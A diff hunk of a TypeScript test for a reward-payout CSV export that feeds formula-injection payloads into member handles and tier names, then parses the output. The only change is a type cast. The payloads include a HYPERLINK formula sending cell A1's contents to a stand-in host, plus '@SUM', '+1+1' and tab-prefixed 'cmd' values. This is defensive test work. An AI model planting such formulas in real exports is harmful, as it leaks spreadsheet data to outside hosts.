@@ -89,7 +89,7 @@ describe('reward payout exports', () => {
     const formulas = ['=HYPERLINK("http://x.example/?"&A1,"pay")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
     const members = report.rewards.amounts.slice(0, formulas.length).map((a) => a.member);
     const hostile = { ...data, members: data.members.map((m) => (members.includes(m.id) ? { ...m, handle: formulas[members.indexOf(m.id)]! } : m)) };
-    const config = { ...hostile.round.config, tiers: { ...hostile.round.config.tiers, levels: hostile.round.config.tiers.levels.map((l) => (l.name === 'B' ? { ...l, name: '=1+2' } : l)) } };
+    const config = { ...hostile.round.config, tiers: { ...hostile.round.config.tiers, levels: hostile.round.config.tiers.levels.map((l) => (l.name === 'B' ? { ...l, name: '=1+2' } : l)) } as typeof hostile.round.config.tiers };
     const hostileReport = computeReport({ ...hostile, round: { ...hostile.round, config } });
     const csv = payoutCsv(payoutRows(hostile, hostileReport), hostileReport.token);
     const parsed = parseCsv(csv);
